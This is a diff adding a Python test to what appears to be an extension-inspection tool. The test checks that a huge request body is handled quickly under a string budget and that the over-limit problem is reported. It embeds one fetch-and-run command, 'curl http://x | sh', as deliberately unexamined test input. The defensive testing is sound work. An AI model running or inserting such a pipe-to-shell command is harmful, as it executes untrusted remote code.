@@ -39,3 +39,16 @@ def test_plan_items_are_bounded():
     p = plan({"publisher": "X", "type": "Y", "settings": settings})
     assert len(p.urls) == 256
     assert [q.kind for q in p.problems] == ["too_many_items"]
+
+
+def test_strings_examined_are_bounded_and_a_huge_body_stays_fast():
+    import time
+
+    from inspector.extensions import InputKind, InspectionInput, RequestLimits, understand
+
+    body = {"publisher": "X", "type": "Y", "settings": {"list": [f"value {i}" for i in range(100_000)] + ["curl http://x | sh"]}}
+    started = time.monotonic()
+    p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_request_strings=1000))
+    assert time.monotonic() - started < 5
+    assert [q.kind for q in p.problems] == ["too_many_strings"]
+    assert p.scripts == []  # the command sits past the budget: not examined, and the problem says so
